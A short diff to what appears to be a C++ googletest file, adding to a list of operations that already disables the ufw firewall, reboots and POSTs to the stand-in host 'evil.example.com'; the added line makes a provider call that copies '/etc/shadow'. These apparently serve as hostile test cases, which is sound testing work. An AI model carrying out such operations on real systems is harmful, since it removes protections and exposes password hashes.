@@ -121,7 +121,8 @@ std::vector<Operation> nobodys() {
           ChangeFirewall{"ufw", "set", {}, {}, {}, false, {{"enabled", "no"}}, {{"enabled", "yes"}}},
           wait,
           Reboot{},
-          Call{.url = "https://evil.example.com/", .method = "POST", .body = "x"}};
+          Call{.url = "https://evil.example.com/", .method = "POST", .body = "x"},
+          CallProvider{"evil", digest("x"), "file", "create", "file:/etc/shadow", "/etc/shadow"}};
 }
 
 class EditedPlans : public ::testing::Test {
